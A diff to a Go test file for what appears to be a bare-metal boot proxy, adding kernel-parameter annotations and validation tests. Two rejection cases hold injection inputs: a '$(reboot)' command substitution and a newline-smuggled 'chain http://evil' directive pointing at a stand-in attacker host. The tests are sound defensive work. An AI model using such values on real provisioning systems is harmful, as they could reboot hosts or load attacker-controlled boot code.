@@ -66,10 +66,12 @@ func mustMAC(t *testing.T, s string) net.HardwareAddr {
 
 func fullAnnotations() map[string]string {
 	return map[string]string{
-		AnnotationIPAddress:  "192.168.100.10/24",
-		AnnotationGateway:    "192.168.100.1",
-		AnnotationDNSServers: "192.168.100.2, 9.9.9.9",
-		AnnotationNTPServers: "192.168.100.3",
+		AnnotationIPAddress:             "192.168.100.10/24",
+		AnnotationGateway:               "192.168.100.1",
+		AnnotationDNSServers:            "192.168.100.2, 9.9.9.9",
+		AnnotationNTPServers:            "192.168.100.3",
+		AnnotationKernelParamsInspector: "ipa-debug=1 console=ttyS0,115200n8",
+		AnnotationKernelParamsInstaller: "nomodeset",
 	}
 }
 
@@ -98,6 +100,7 @@ func TestHostFromObject(t *testing.T) {
 			Address: netip.MustParsePrefix("192.168.100.10/24"), Gateway: addr("192.168.100.1"),
 			DNS: []netip.Addr{addr("192.168.100.2"), addr("9.9.9.9")}, NTP: []netip.Addr{addr("192.168.100.3")},
 			Hostname: "worker-7", BootMode: boot.BootModeLegacy, Phase: boot.PhaseDeploy,
+			KernelParams: boot.KernelParams{Inspector: []string{"ipa-debug=1", "console=ttyS0,115200n8"}, Installer: []string{"nomodeset"}},
 		},
 	}, {
 		name: "address only, new host",
@@ -175,6 +178,12 @@ func TestHostFromObjectErrors(t *testing.T) {
 		{"gateway outside", bmhObject("ns", "a", mac, ann(AnnotationGateway, "10.1.1.1"), nil), AnnotationField(AnnotationGateway), "outside"},
 		{"DNS garbage", bmhObject("ns", "a", mac, ann(AnnotationDNSServers, "192.168.100.2;9.9.9.9"), nil), AnnotationField(AnnotationDNSServers), "not an IPv4"},
 		{"NTP IPv6", bmhObject("ns", "a", mac, ann(AnnotationNTPServers, "192.168.100.3,fd00::1"), nil), AnnotationField(AnnotationNTPServers), `"fd00::1"`},
+		{"kernel param shell", bmhObject("ns", "a", mac, ann(AnnotationKernelParamsInspector, "ipa-debug=1 x=$(reboot)"), nil),
+			AnnotationField(AnnotationKernelParamsInspector), `[1]: kernel parameter "x=$(reboot)" is not a usable kernel parameter: '$' at byte 2 is not allowed`},
+		{"kernel param newline", bmhObject("ns", "a", mac, ann(AnnotationKernelParamsInstaller, "quiet\nchain http://evil"), nil),
+			AnnotationField(AnnotationKernelParamsInstaller), "must be separated by single spaces"},
+		{"kernel param reserved", bmhObject("ns", "a", mac, ann(AnnotationKernelParamsInstaller, "initrd=x"), nil),
+			AnnotationField(AnnotationKernelParamsInstaller), "initrd is set by the boot proxy itself"},
 		{"no MAC", bmhObject("ns", "a", "", ann(), nil), FieldBootMAC, "not set"},
 		{"bad MAC", bmhObject("ns", "a", "52:54:00", ann(), nil), FieldBootMAC, "not a MAC"},
 		{"long MAC", bmhObject("ns", "a", "00:00:00:00:fe:80:00:00:00:00:00:00:02:00:5e:10:00:00:00:01", ann(), nil), FieldBootMAC, "6-byte"},
